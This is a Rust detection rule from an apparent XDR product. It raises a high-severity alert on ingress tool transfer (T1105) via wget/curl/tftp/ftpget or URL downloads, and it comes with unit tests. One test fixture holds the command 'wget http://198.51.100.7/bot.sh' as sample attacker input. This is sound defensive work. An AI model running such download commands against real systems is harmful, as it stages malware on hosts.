//! Ingress tool transfer: `wget`/`curl`/`tftp`/`ftpget` in a command, or a file download
//! with a URL (T1105).

use super::{score, RuleContext, RuleHit};
use crate::windows::{flags, Kind, WINDOW_1H};
use xdr_domain::incident::{IncidentCategory, Severity};

pub const ID: &str = "ingress_tool_transfer";
pub const TECHNIQUES: &[&str] = &["T1105"];
pub const DEFAULT_THRESHOLD: u32 = 1;

pub fn evaluate(ctx: &RuleContext<'_>) -> Option<RuleHit> {
    let f = ctx.features;
    let n = f.download_commands_1h + f.file_downloads_1h;
    if n < f64::from(DEFAULT_THRESHOLD) {
        return None;
    }
    Some(RuleHit {
        rule_id: ID,
        category: IncidentCategory::MalwareBotnet,
        severity: Severity::High,
        risk_score: score(0.8),
        confidence: 0.85,
        techniques: TECHNIQUES.to_vec(),
        reason: format!("{n} tool download(s) (wget/curl/tftp/ftpget or file download)"),
        features: vec!["download_commands_1h", "file_downloads_1h"],
        evidence: ctx.evidence(WINDOW_1H, |o| {
            matches!(o.kind, Kind::Command | Kind::FileDownload) && o.flags & flags::DOWNLOAD != 0
        }),
    })
}

#[cfg(test)]
mod tests {
    use super::super::testkit::*;
    use super::*;

    #[test]
    fn it_should_fire_on_wget_or_a_url_download() {
        assert_eq!(hit(&[cmd(0, "wget http://198.51.100.7/bot.sh")], ID).unwrap().techniques, vec!["T1105"]);
        assert!(hit(&[download(0, Some("http://x/y"), "/tmp/y")], ID).is_some());
    }

    #[test]
    fn it_should_not_fire_on_redirected_output_or_plain_commands() {
        assert!(hit(&[download(0, None, "/root/.ssh/authorized_keys")], ID).is_none());
        assert!(hit(&[cmd(0, "ls -la"), cmd(1, "echo wget")], ID).is_none());
    }
}
